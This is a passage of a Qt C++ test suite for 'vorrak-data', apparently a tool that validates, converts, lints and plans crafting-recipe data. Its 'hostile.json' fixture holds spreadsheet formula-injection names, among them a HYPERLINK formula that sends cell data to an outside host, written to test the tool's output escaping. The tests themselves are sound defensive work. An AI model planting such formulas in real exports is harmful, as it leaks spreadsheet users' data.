                          "Alchemy\tElixir of Clear Sight\t30 to 180\t180\tthe process's highest QL\n"
                          "Tailoring\tWool Cloak\t1 to 80\t80\tthe process's highest QL\n"
                          "Tailoring\tSilk Gloves\t20 to 150\t150\tthe process's highest QL\n"
                          "Jewelcrafting\tPolished Garnet Ring\t40 to 220\t220\tthe process's highest QL\n"
                          "unknown, not taken into account: Alchemy, Dexterity, Gem Cutting, Herbalism, Jewelcrafting, "
                          "Mechanical Engineering, Tailoring\n")
            << QByteArray();
        QTest::newRow("can make, ambiguous skill") << QStringList{"calc", "--can-make", "--skill", "t=1"} << 1
                                                   << QByteArray()
                                                   << QByteArray("vorrak-data: calc: skill \"t\" in the data could be "
                                                                 "\"Tailoring\", \"Tempering\"\n");
        QTest::newRow("can make takes no process") << QStringList{"calc", "--can-make", "1", "1"} << 2 << QByteArray()
                                                   << "vorrak-data: calc: --can-make takes no GROUP or PROCESS" + see;
        QTest::newRow("plan")
            << QStringList{"calc", "--plan", "1", "1", "50", "weap", "temp", "60", "1", "3", "200"} << 0
            << QByteArray("Tools/Items\nAncestral Anvil\tFixed\tQL 200 Blade of the First Forge\n"
                          "Iron Ingot\t25\tQL 50 Iron Shortsword\nLeather Grip\t13\tQL 50 Iron Shortsword\n"
                          "Quenching Trough\tFixed\tQL 60 Tempered Greatsword\n"
                          "Smithing Hammer\tFixed\tQL 50 Iron Shortsword, QL 60 Tempered Greatsword\n"
                          "Starmetal Ingot\t10\tQL 200 Blade of the First Forge\n"
                          "Steel Ingot\t60\tQL 60 Tempered Greatsword\nSkills\n"
                          "Mechanical Engineering\t20\tQL 50 Iron Shortsword\n"
                          "Runecarving\tFixed\tQL 200 Blade of the First Forge\n"
                          "Tempering\t90\tQL 60 Tempered Greatsword\n"
                          "Weaponsmithing\t500\tQL 200 Blade of the First Forge\n")
            << QByteArray();
        QTest::newRow("plan as JSON") << QStringList{"calc", "--json", "--plan", "alch", "minor", "10"} << 0
                                      << QByteArray("{\n    \"items\": [\n        {\n            \"amount\": \"Fixed\",\n"
                                                    "            \"name\": \"Glass Vial\",\n            \"products\": [\n"
                                                    "                \"QL 10 Minor Healing Draught\"\n            ]\n        },\n        {\n"
                                                    "            \"amount\": \"4\",\n            \"name\": \"Moonleaf\",\n"
                                                    "            \"products\": [\n                \"QL 10 Minor Healing Draught\"\n"
                                                    "            ]\n        }\n    ],\n    \"products\": [\n        {\n"
                                                    "            \"group\": \"Alchemy\",\n            \"process\": \"Minor Healing Draught\",\n"
                                                    "            \"ql\": 10\n        }\n    ],\n    \"skills\": [\n        {\n"
                                                    "            \"amount\": \"11\",\n            \"name\": \"Alchemy\",\n"
                                                    "            \"products\": [\n                \"QL 10 Minor Healing Draught\"\n"
                                                    "            ]\n        }\n    ]\n}\n") << QByteArray();
        QTest::newRow("plan out of range") << QStringList{"calc", "--plan", "1", "1", "50", "1", "2", "59"} << 1
                                           << QByteArray()
                                           << QByteArray("vorrak-data: calc: QL 59 is outside the range of \"Tempered "
                                                         "Greatsword\": 60 to 250\n");
        QTest::newRow("plan not in threes") << QStringList{"calc", "--plan", "1", "1", "50", "2"} << 2 << QByteArray()
                                            << "vorrak-data: calc: --plan takes GROUP PROCESS QL, once for each "
                                               "product" + see;
        QTest::newRow("unknown option") << QStringList{"calc", "--csv", "1", "1"} << 2 << QByteArray()
                                        << "vorrak-data: calc: unknown option \"--csv\"" + see;

        QTest::newRow("lint clean") << QStringList{"lint", "Vorrak.dat"} << 0 << QByteArray() << QByteArray();
        QTest::newRow("lint findings")
            << QStringList{"lint", "other/mistakes.json"} << 1
            << QByteArray("other/mistakes.json: group 1 \"A\", process 1 \"\": the name is empty\n"
                          "other/mistakes.json: group 1 \"A\", process 1 \"\": Min QL 9 is above Max QL 3\n"
                          "other/mistakes.json: group 1 \"A\", process 1 \"\", requirement 1 \"R\": multiplier \"x2\" "
                          "is no number, so it counts as 0 (Fixed)\n"
                          "other/mistakes.json: group 1 \"A\", process 1 \"\", requirement 2 \"R\": kind t=2 is "
                          "neither 0 (tool or item) nor 1 (skill)\n"
                          "other/mistakes.json: group 1 \"A\", process 1 \"\": requirement \"R\" appears 2 times\n"
                          "other/mistakes.json: group 2 \"\": the name is empty\n"
                          "other/mistakes.json: group 3 \"A\", process 1 \"P\", requirement 1 \"\": the name is empty\n"
                          "other/mistakes.json: group 3 \"A\", process 1 \"P\", requirement 1 \"\": multiplier \"\" "
                          "is no number, so it counts as 0 (Fixed)\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\": Min QL is 0, a QL no product has (at "
                          "QL 0 every amount is 0)\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 1 \"R1\": multiplier \"1,5\" "
                          "is not a plain decimal number, so it counts as 1\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 2 \"R2\": multiplier \"0.5x\" "
                          "is not a plain decimal number, so it counts as 0.5\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 3 \"R3\": multiplier "
                          "\"1.25.3\" is not a plain decimal number, so it counts as 1.25\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 4 \"R4\": multiplier \"+2\" "
                          "is not a plain decimal number, so it counts as 2\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 5 \"R5\": multiplier \"-0.5\" "
                          "is negative, so its amounts are below 0\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 6 \"R6\": multiplier \"0,5\" "
                          "is not a plain decimal number, so it counts as 0 (Fixed)\n"
                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 7 \"R7\": multiplier "
                          "\" 1e2\" is not a plain decimal number, so it counts as 100\n"
                          "other/mistakes.json: group 4 \"B\", process 2 \"Z\": Min QL is 0, a QL no product has (at "
                          "QL 0 every amount is 0)\n"
                          "other/mistakes.json: group 4 \"B\", process 2 \"Z\": Max QL is 0, so the process is made at "
                          "QL 0 only\n"
                          "other/mistakes.json: groups: group \"A\" appears 2 times\n")
            << QByteArray();
    }

    void calcAndLint()
    {
        QFETCH(QStringList, arguments);
        QFETCH(int, exitCode);
        QFETCH(QByteArray, out);
        QFETCH(QByteArray, err);

        const QByteArray data = readFile(QStringLiteral(VORRAK_SAMPLE_BUILD_DIR "/Vorrak.dat"));
        QVERIFY(!data.isEmpty());
        QVERIFY(m_dir->write(QStringLiteral("Vorrak.dat"), data));
        QVERIFY(QDir(m_dir->path()).mkpath(QStringLiteral("other")));
        QVERIFY(m_dir->write(QStringLiteral("other/data.dat"), data));
        QVERIFY(m_dir->write(QStringLiteral("other/help.hlp"), hexBytes("E9 A7 14 3D 00 00")));
        const QByteArray mistakes = R"({"format": "vorrak-data", "groups": [
            {"name": "A", "procs": [{"name": "", "maxQL": 3, "minQL": 9, "reqs": [
                {"name": "R", "multiplier": "x2", "t": 0, "id": 0},
                {"name": "R", "multiplier": "0", "t": 2, "id": 0}]}]},
            {"name": "", "procs": []},
            {"name": "A", "procs": [{"name": "P", "maxQL": 3, "minQL": 1, "reqs": [
                {"name": "", "multiplier": "", "t": 1, "id": 0}]}]},
            {"name": "B", "procs": [{"name": "Q", "maxQL": 9, "minQL": 0, "reqs": [
                {"name": "R1", "multiplier": "1,5", "t": 0, "id": 0},
                {"name": "R2", "multiplier": "0.5x", "t": 0, "id": 0},
                {"name": "R3", "multiplier": "1.25.3", "t": 0, "id": 0},
                {"name": "R4", "multiplier": "+2", "t": 0, "id": 0},
                {"name": "R5", "multiplier": "-0.5", "t": 0, "id": 0},
                {"name": "R6", "multiplier": "0,5", "t": 0, "id": 0},
                {"name": "R7", "multiplier": " 1e2", "t": 0, "id": 0},
                {"name": "R8", "multiplier": "12.50", "t": 0, "id": 0}]},
                {"name": "Z", "maxQL": 0, "minQL": 0, "reqs": []}]}]})";
        QVERIFY(m_dir->write(QStringLiteral("other/mistakes.json"), mistakes));
        // Names a spreadsheet takes for formulas. Brackets and slashes are JSON
        // escapes: moc reads a raw string as if it were an ordinary one.
        const QByteArray hostile = R"({"format": "vorrak-data", "groups": [
            {"name": "=Group", "procs": [{"name": "@Proc", "maxQL": 2, "minQL": 1, "reqs": [
                {"name": "=HYPERLINK\u0028\u0022http:\u002f\u002fx/\u0022&A1,\u0022Click\u0022\u0029", "multiplier": "-0.5", "t": 0, "id": 0},
                {"name": "-2.5", "multiplier": "-12345678.9", "t": 0, "id": 0},
                {"name": "Tab\there\n=cmd", "multiplier": "1e400", "t": 1, "id": 0},
                {"name": "+skill", "multiplier": "0.07", "t": 1, "id": 0}]}]}]})";
        QVERIFY(m_dir->write(QStringLiteral("other/hostile.json"), hostile));

        const ToolRun result = run(arguments);
        QCOMPARE(result.err, err);
        QCOMPARE(result.out, out);
        QCOMPARE(result.exitCode, exitCode);
    }

    void exportToFileReplacesIt()
    {
        QVERIFY(m_dir->write(QStringLiteral("good.dat"), hexBytes(Example41)));
        QVERIFY(m_dir->write(QStringLiteral("data.json"),
                             QByteArray(R"({"format": "vorrak-data", "groups": []} kept in version control)")));
        const ToolRun toFile = run(
            {QStringLiteral("export"), QStringLiteral("good.dat"), QStringLiteral("-o"), QStringLiteral("data.json")});
        QCOMPARE(toFile.exitCode, 0);
        QCOMPARE(toFile.out, QByteArray());
        const ToolRun printed = run({QStringLiteral("export"), QStringLiteral("good.dat")});
        QCOMPARE(m_dir->read(QStringLiteral("data.json")), printed.out);
        QCOMPARE(QDir(m_dir->path()).entryList(QDir::Files), QStringList({"data.json", "good.dat"}));
    }

    void onlyRegularFiles_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("error");
        QTest::newRow("check a FIFO") << QStringList{"check", "fifo"}
                                      << "vorrak-data: fifo: cannot read: not a regular file";
        QTest::newRow("export a link to a FIFO") << QStringList{"export", "link"}
                                                 << "vorrak-data: link: cannot read: not a regular file";
        QTest::newRow("check an endless device") << QStringList{"check", "/dev/zero"}
                                                 << "vorrak-data: /dev/zero: cannot read: not a regular file";
        QTest::newRow("import into a FIFO") << QStringList{"import", "good.json", "fifo"}
                                            << "vorrak-data: fifo: cannot write: not a regular file";
        QTest::newRow("import into a link to a FIFO") << QStringList{"import", "good.json", "link"}
                                                      << "vorrak-data: link: cannot write: not a regular file";
        QTest::newRow("import into a device") << QStringList{"import", "good.json", "null"}
                                              << "vorrak-data: null: cannot write: not a regular file";
    }

    void onlyRegularFiles()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, error);
        const QByteArray fifo = QFile::encodeName(m_dir->filePath(QStringLiteral("fifo")));
        QCOMPARE(::mkfifo(fifo.constData(), 0600), 0);
        QVERIFY(QFile::link(QStringLiteral("fifo"), m_dir->filePath(QStringLiteral("link"))));
        QVERIFY(m_dir->write(QStringLiteral("good.json"), QByteArray(R"({"format": "vorrak-data", "groups": []})")));
        // The null device's numbers, in the scratch directory: replacing it would harm nothing.
        const QByteArray device = QFile::encodeName(m_dir->filePath(QStringLiteral("null")));
        if (arguments.contains(QStringLiteral("null")) && ::mknod(device.constData(), S_IFCHR | 0600, makedev(1, 3)) != 0)
            QSKIP("only root may make a device node");

        const ToolRun result = run(arguments);
        QCOMPARE(result.exitCode, 1);
        QCOMPARE(result.out, QByteArray());
        QCOMPARE(QString::fromUtf8(result.err), error + QLatin1Char('\n'));
        struct stat status;
        QVERIFY(::stat(fifo.constData(), &status) == 0 && S_ISFIFO(status.st_mode));
        if (arguments.contains(QStringLiteral("null")))
            QVERIFY(::stat(device.constData(), &status) == 0 && S_ISCHR(status.st_mode));
    }

    void fullStandardOutputIsAnError()
    {
        if (!QFileInfo::exists(QStringLiteral("/dev/full")))
            QSKIP("no /dev/full on this system");
        QVERIFY(m_dir->write(QStringLiteral("good.dat"), hexBytes(Example41)));
        const ToolRun result = run({QStringLiteral("export"), QStringLiteral("good.dat")}, QStringLiteral("/dev/full"));
        QCOMPARE(result.exitCode, 1);
        QCOMPARE(result.err, QByteArray("vorrak-data: cannot write to standard output: No space left on device\n"));
    }

    void importReplacesExistingFile()
    {
        QVERIFY(m_dir->write(QStringLiteral("out.dat"), helpFileBytes(richTopics())));
        QVERIFY(m_dir->write(QStringLiteral("empty.json"), QByteArray(R"({"format": "vorrak-help", "topics": []})")));
        const ToolRun result = run({QStringLiteral("import"), QStringLiteral("empty.json"), QStringLiteral("out.dat")});
        QCOMPARE(result.exitCode, 0);
        QCOMPARE(m_dir->read(QStringLiteral("out.dat")), hexBytes("E9 A7 14 3D 00 00"));
        QCOMPARE(QDir(m_dir->path()).entryList(QDir::Files), QStringList({"empty.json", "out.dat"}));
    }

    void checkReportsTrailingBytes()
    {
        QVERIFY(m_dir->write(QStringLiteral("t.dat"), hexBytes(Example41) + "xy"));
        const ToolRun result = run({QStringLiteral("check"), QStringLiteral("t.dat")});
        QCOMPARE(result.exitCode, 0);
        QCOMPARE(result.out, QByteArray("t.dat: valid data file: 1 group, 1 process, 1 requirement; 2 bytes after "
                                        "the last record (from byte 41), which the programs ignore\n"));
        QCOMPARE(result.err, QByteArray());
    }
};

QTEST_GUILESS_MAIN(TestVorrakData)
#include "tst_vorrakdata.moc"
